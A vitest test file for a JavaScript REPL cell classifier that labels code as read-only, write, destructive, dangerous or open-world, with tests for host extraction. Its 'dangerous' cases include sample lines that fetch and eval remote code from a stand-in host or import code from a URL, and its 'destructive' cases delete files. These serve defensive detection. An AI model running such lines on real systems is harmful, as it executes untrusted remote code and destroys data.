import { describe, expect, it } from 'vitest';
import { classifyCell, type CellClass } from '../../../src/repl/cell/classify.ts';

type Row = readonly [code: string, cellClass: CellClass];

describe('the hosts of an open-world cell', () => {
  it.each<readonly [string, string[]]>([
    ['await fetch("https://example.com")', ['example.com']],
    [
      'const base = "https://API.example.com:8443/v1"; fetch(base + path)',
      ['api.example.com:8443'],
    ],
    ['fetch(`https://example.com/${id}`); fetch(`http://b.net.`)', ['example.com', 'b.net']],
    ['fetch(new URL("/x", "https://example.com:443"))', ['example.com']],
    ['fetch("https://a.net"); fetch("https://a.net/b")', ['a.net']],
    ['fetch("https://*/"); fetch("https://*.net/"); fetch("https://a*b.net/")', []],
    ['fetch("http://localhost../")', ['localhost']],
    ['fetch(url)', []],
    // A server of the cell's own, and a request by http.
    ['app.listen(3000); fetch("http://localhost:3000/"); fetch("https://a.net/")', ['a.net']],
    ['serve({ port: 80 }); fetch("http://127.0.0.1/"); fetch("http://[::1]:3000/")', []],
    ['fetch("http://localhost:3000/")', ['localhost:3000']],
    ['const { get } = require("node:https"); get("https://a.net/")', ['a.net']],
    ['fetch(`https://${host}/`)', []],
    ['fetch(`https://api.${domain}`)', []],
    ['fetch("https://example" + ".com")', []],
    ['fetch("https://example.com/" + id)', ['example.com']],
    ['fetch("data:text/plain,https://a.net")', []],
    ['fetch("https://")', []],
    // TypeScript isn't parsed here.
    ['const a: Response = await fetch("https://example.com")', ['example.com']],
    [
      'const a: Response = await fetch(`https://a.${b}/`), c = fetch(`https://d.net/${e}`)',
      ['d.net'],
    ],
  ])('%s', (code, hosts) => {
    expect(classifyCell(code)).toEqual({
      cellClass: 'open-world',
      isReadOnly: false,
      isConcurrencySafe: false,
      hosts,
    });
  });
});

describe('classifyCell', () => {
  it.each<Row>([
    ['1 + 1', 'neutral'],
    ['[1, 2].map((n) => n * 2)', 'neutral'],
    ['console.log(JSON.stringify({ a: Math.max(1, 2) }))', 'neutral'],
    ['const { join } = require("path"); join("a", "b")', 'neutral'],
    ['items.filter((item) => item.done).length', 'neutral'],
    ['fs.readFileSync("a.txt", "utf8")', 'read'],
    ['fs.existsSync("a") && fs.statSync("a").size', 'list'],
    ['import { readdirSync } from "node:fs"; readdirSync(".")', 'list'],
    ['const f = require("fs"); for (const n of f.readdirSync(".")) f.readFileSync(n)', 'search'],
    ['import { readFile } from "fs/promises"; await readFile("a")', 'read'],
    ['await fs.promises.readFile("a")', 'read'],
    ['await git.status()', 'read'],
    ['(await git.log({ maxCount: 3 })).map(({ oid }) => oid)', 'read'],
    ['await git.branch.list()', 'read'],
    ["await git.at('app').status()", 'read'],
    ["await git.at('app').branch.list()", 'read'],
    ['await Promise.all([git.diff(), git.show("HEAD")])', 'read'],
    ['const { readFileSync: r } = require("node:fs"); r("a")', 'read'],
  ])('calls `%s` read-only', (code, cellClass) => {
    expect(classifyCell(code)).toMatchObject({ cellClass, isReadOnly: true });
  });

  it.each<Row>([
    ['fs.writeFileSync("a", "")', 'write'],
    ['fs["write" + "FileSync"]("a", "")', 'write'],
    ['const f = fs; f[name]("a")', 'write'],
    ['helper(fs)', 'write'],
    ['import { createServer } from "http"; createServer().listen(3000)', 'write'],
    ['await git.commit({ message: "x" })', 'write'],
    ['await git.branch.create("x")', 'write'],
    ['await git.switch("x")', 'write'],
    ['const { status } = git; await status()', 'write'],
    ['git[name]()', 'write'],
    ["await git.at('app').commit({ message: 'x' })", 'write'],
    ["const app = git.at('app'); await app.status()", 'write'],
    ["git.at(await tools.Write({}) ?? '').status()", 'write'],
    ['helper(git)', 'write'],
    ['git.branch[name]()', 'write'],
    ['({ fs })', 'write'],
    ['const { [x]: y } = fs', 'write'],
    ['import { writeFileSync as read } from "fs"; read("a", "")', 'write'],
    ['const { promises } = require("fs"); promises.mkdir("a")', 'write'],
    ['fs.promises.appendFile("a", "")', 'write'],
    ['require(name)', 'write'],
    ['const r = require; r("fs").rmSync("a")', 'write'],
    ['import "./src/build.js"', 'write'],
    ['import("node:path")', 'write'],
    ['eval("1")', 'write'],
    ['new Function("return 1")()', 'write'],
    ['(() => 1).constructor("return 1")()', 'write'],
    ['globalThis.fs', 'write'],
    ['this.fs.rmSync("a")', 'write'],
    ['Reflect.get(x, "y")', 'write'],
    ['save()', 'write'],
    ['store.save()', 'write'],
    ['new Store()', 'write'],
    ['tag`x`', 'write'],
    ['await runTests()', 'write'],
    ['const x: number = 1', 'write'],
    ['pick<string>(fs)', 'write'],
    ['let = = 1', 'write'],
    ['fs.rmSync("a")', 'destructive'],
    ['fs.unlinkSync("a"); fs.writeFileSync("b", "")', 'destructive'],
  ])('calls `%s` no read', (code, cellClass) => {
    expect(classifyCell(code)).toEqual({ cellClass, isReadOnly: false, isConcurrencySafe: false });
  });

  it.each([
    [
      'eval(await (await fetch("https://x.test/a.js")).text())',
      /^It runs text as code and reaches the network/u,
    ],
    ['new Function(await load(fetch))', /^It runs text as code/u],
    ['import("https://x.test/a.js")', /^It imports code from https:\/\/x\.test\/a\.js/u],
    ['import x from "data:text/javascript,1"', /^It imports code from data:/u],
  ])('calls `%s` dangerous, and says why', (code, reason) => {
    expect(classifyCell(code)).toMatchObject({
      cellClass: 'dangerous',
      isReadOnly: false,
      reason: expect.stringMatching(reason) as string,
    });
  });

  it.each([
    ['fs.readFileSync("a", "utf8").length', true],
    ['(() => { const own = 1; return own })()', true],
    ['items.map((item) => item.name)', true],
    ['const x = fs.readFileSync("a")', false],
    ['import path from "path"; path.sep', false],
    ['function f() {}', false],
    ['x = 1', false],
    ['(() => { count++ })()', false],
    ['settings.depth = 2', false],
    ['delete settings.depth', false],
    ['items.push(1)', false],
    ['items[0].list.sort()', false],
  ])('lets `%s` run beside others: %s', (code, isConcurrencySafe) => {
    expect(classifyCell(code)).toMatchObject({ isReadOnly: true, isConcurrencySafe });
  });

  it('takes an object literal for what the session takes it for', () => {
    expect(classifyCell('{ a: fs.writeFileSync("x", ""), b: 1 }').cellClass).toBe('write');
    expect(classifyCell('{ a: 1, b: 2 }').cellClass).toBe('neutral');
  });

  it('calls code that is nested too deeply a write', () => {
    expect(classifyCell('['.repeat(100_000)).cellClass).toBe('write');
    expect(classifyCell('-'.repeat(100_001).split('').join(' ') + '1').cellClass).toBe('write');
  });

  it('takes no time that grows with the square of the dots in a host', () => {
    // One that took the square of their number would outlast the test's own time.
    const code = `await fetch("https://a${'.'.repeat(150_000)}b/")`;
    expect(classifyCell(code).cellClass).toBe('open-world');
  }, 15_000);
});
